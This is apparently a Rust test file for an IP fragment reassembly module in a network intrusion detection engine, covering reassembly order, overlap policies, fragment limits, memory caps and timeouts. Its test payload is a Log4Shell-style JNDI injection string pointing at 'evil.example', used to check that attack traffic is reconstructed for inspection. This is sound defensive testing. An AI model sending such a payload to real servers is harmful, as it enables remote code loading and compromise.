use super::*;
use crate::decode::decode;
use testkit::fragments::{piece, split, split_every};

/// A TCP segment from 10.0.0.1:40000 to 10.0.0.2:80 (IPv4) or the same in IPv6.
fn segment(ipv6: bool, payload: &[u8]) -> Vec<u8> {
    let b = etherparse::PacketBuilder::ethernet2([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2]);
    let b = if ipv6 {
        let mut src = [0u8; 16];
        let mut dst = [0u8; 16];
        src[15] = 1;
        dst[15] = 2;
        b.ipv6(src, dst, 64)
    } else {
        b.ipv4([10, 0, 0, 1], [10, 0, 0, 2], 64)
    };
    let mut out = Vec::new();
    b.tcp(40000, 80, 1, 65535)
        .ack(1)
        .write(&mut out, payload)
        .unwrap();
    out
}

/// Feeds `frames` (fragments) to `d` at one second apart from `t0`; the outcomes.
fn feed(d: &mut Defrag, frames: &[Vec<u8>], t0: u64) -> Vec<Insertion> {
    frames
        .iter()
        .enumerate()
        .map(|(i, f)| {
            let pkt = decode(f).unwrap();
            let frag = pkt.frag.expect("a fragment");
            d.insert(&pkt, &frag, t0 + i as u64)
        })
        .collect()
}

/// Whether `got` is `whole`'s datagram: the same link header, addresses and IP payload
/// (the identification and flags are the fragments').
fn same_datagram(got: &[u8], whole: &[u8]) -> bool {
    let (a, b) = (decode(got).unwrap(), decode(whole).unwrap());
    got[..14] == whole[..14]
        && (a.src_ip(), a.dst_ip()) == (b.src_ip(), b.dst_ip())
        && testkit::fragments::payload(got) == testkit::fragments::payload(whole)
}

fn outcomes(v: &[Insertion]) -> Vec<Outcome> {
    v.iter().map(|i| i.outcome).collect()
}

const DATA: &[u8] = b"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1\r\nHost: victim\r\n\r\n";

#[test]
fn fragments_in_any_order_give_back_the_datagram() {
    for ipv6 in [false, true] {
        let whole = segment(ipv6, DATA);
        let frags = split_every(&whole, 8, 7);
        assert!(frags.len() > 8);
        let orders: Vec<Vec<usize>> = vec![
            (0..frags.len()).collect(),
            (0..frags.len()).rev().collect(),
            (0..frags.len()).map(|i| (i * 5) % frags.len()).collect(),
        ];
        for order in orders {
            let mut d = Defrag::new(DefragConfig::default());
            let shuffled: Vec<Vec<u8>> = order.iter().map(|&i| frags[i].clone()).collect();
            let got = outcomes(&feed(&mut d, &shuffled, 0));
            let (last, held) = got.split_last().unwrap();
            assert!(held.iter().all(|o| *o == Outcome::Held), "{got:?}");
            assert_eq!(*last, Outcome::Complete);
            assert!(
                same_datagram(d.datagram(), &whole),
                "ipv6 {ipv6} order {order:?}"
            );
            let pkt = decode(d.datagram()).unwrap();
            assert_eq!(pkt.payload, DATA);
            assert!(pkt.frag.is_none());
            assert_eq!(d.counters.reassembled, 1);
            assert_eq!(
                d.counters.memuse, 0,
                "a completed datagram frees its memory"
            );
        }
    }
}

#[test]
fn overlaps_keep_the_data_the_policy_names_and_differing_data_is_an_anomaly() {
    // Eight bytes are sent twice: first "AAAAAAAA", then "BBBBBBBB" in a fragment that
    // begins `pre` bytes before them and ends `post` bytes after them.
    let data = b"0123456789abcdef0123456789abcdef";
    let whole = segment(false, data);
    let tcp = testkit::fragments::payload(&whole).to_vec();
    let at = 32; // 20 bytes of TCP header, then the data from its byte 12
    for (policy, pre, post, expect_b) in [
        (OverlapPolicy::Bsd, 8, 8, true),
        (OverlapPolicy::Bsd, 8, 0, false),
        (OverlapPolicy::Bsd, 0, 0, false),
        (OverlapPolicy::Linux, 8, 0, true),
        (OverlapPolicy::Linux, 0, 0, true),
        (OverlapPolicy::First, 8, 8, false),
        (OverlapPolicy::Last, 0, 0, true),
    ] {
        let mut original = tcp.clone();
        original[at..at + 8].copy_from_slice(b"AAAAAAAA");
        let mut other = tcp.clone();
        other[at..at + 8].copy_from_slice(b"BBBBBBBB");
        let old = piece(&whole, at, &original[at..at + 8], true, 1);
        let new = piece(&whole, at - pre, &other[at - pre..at + 8 + post], true, 1);
        let head = piece(&whole, 0, &tcp[..at], true, 1);
        let tail = piece(&whole, at + 8, &tcp[at + 8..], false, 1);
        let mut d = Defrag::new(DefragConfig {
            policy,
            ..DefragConfig::default()
        });
        let got = feed(&mut d, &[old, new, head, tail], 0);
        assert_eq!(got[1].anomaly, Some(Anomaly::Overlap));
        assert_eq!(got[3].outcome, Outcome::Complete);
        let pkt = decode(d.datagram()).unwrap();
        let kept = &pkt.payload[12..20];
        let want: &[u8] = if expect_b { b"BBBBBBBB" } else { b"AAAAAAAA" };
        assert_eq!(kept, want, "{policy:?} {pre} before, {post} after");
        assert_eq!(d.counters.overlap_conflicts, 1);
    }
    // An exact duplicate overlaps without an anomaly.
    let whole = segment(false, DATA);
    let mut frags = split_every(&whole, 16, 2);
    frags.insert(1, frags[0].clone());
    let mut d = Defrag::new(DefragConfig::default());
    let got = feed(&mut d, &frags, 0);
    assert!(got.iter().all(|i| i.anomaly.is_none()));
    assert_eq!(got.last().unwrap().outcome, Outcome::Complete);
    assert_eq!((d.counters.overlaps, d.counters.overlap_conflicts), (1, 0));
    assert!(same_datagram(d.datagram(), &whole));
}

#[test]
fn a_datagram_of_too_many_fragments_is_refused_to_its_end() {
    let whole = segment(false, DATA);
    let frags = split_every(&whole, 8, 3);
    let mut d = Defrag::new(DefragConfig {
        max_fragments: 4,
        ..DefragConfig::default()
    });
    let got = feed(&mut d, &frags, 0);
    assert_eq!(
        outcomes(&got[..5]),
        [
            Outcome::Held,
            Outcome::Held,
            Outcome::Held,
            Outcome::Held,
            Outcome::Refused
        ]
    );
    assert_eq!(got[4].anomaly, Some(Anomaly::TooMany));
    assert!(got[5..].iter().all(|i| i.outcome == Outcome::Refused));
    assert_eq!(d.counters.too_many, 1);
    assert_eq!(d.counters.refused_later, frags.len() as u64 - 5);
    assert_eq!(d.counters.reassembled, 0);
    assert_eq!(d.counters.memuse, TRACKER_COST as u64);
}

#[test]
fn a_fragment_ending_past_65535_bytes_is_an_anomaly() {
    for ipv6 in [false, true] {
        let whole = segment(ipv6, DATA);
        let f = piece(&whole, 65_528, b"0123456789", false, 4);
        let mut d = Defrag::new(DefragConfig::default());
        let got = feed(&mut d, &[f], 0);
        assert_eq!(got[0].outcome, Outcome::Refused);
        assert_eq!(got[0].anomaly, Some(Anomaly::TooLarge));
        assert!(Anomaly::TooLarge
            .event(ipv6)
            .ends_with("frag_pkt_too_large"));
    }
}

#[test]
fn memory_stays_within_the_cap_and_old_datagrams_time_out() {
    // A flood of first fragments, each of a different datagram, never completed.
    let whole = segment(false, &[b'x'; 1000]);
    let cap = 64 * 1024;
    let mut d = Defrag::new(DefragConfig {
        memcap: cap,
        timeout_secs: 10,
        ..DefragConfig::default()
    });
    let mut refused = 0;
    for id in 0..1000u32 {
        let f = split(&whole, &[504], id).remove(0);
        let pkt = decode(&f).unwrap();
        let got = d.insert(&pkt, &pkt.frag.unwrap(), 1_000_000);
        refused += usize::from(got.outcome == Outcome::Refused);
        assert!(d.counters.memuse as usize <= cap);
    }
    assert!(refused > 800, "{refused}");
    assert_eq!(d.counters.memcap_refused, refused as u64);
    // After the timeout the table is swept: the next datagram is held and completes.
    let frags = split(&whole, &[504], 5000);
    let later = 12_000_000;
    let got = feed(&mut d, &frags, later);
    assert_eq!(outcomes(&got), [Outcome::Held, Outcome::Complete]);
    assert_eq!(d.counters.timed_out, 1000 - refused as u64);
    assert_eq!(d.counters.memuse, 0);
}

#[test]
fn a_tiny_first_fragment_cutting_the_tcp_header_is_reassembled() {
    let whole = segment(false, DATA);
    let frags = split(&whole, &[8, 16], 9);
    let first = decode(&frags[0]).expect("a first fragment shorter than its TCP header");
    assert_eq!(first.fragment, crate::decode::Fragment::First);
    let mut d = Defrag::new(DefragConfig::default());
    let got = feed(&mut d, &frags, 0);
    assert_eq!(got.last().unwrap().outcome, Outcome::Complete);
    assert_eq!(decode(d.datagram()).unwrap().payload, DATA);
}
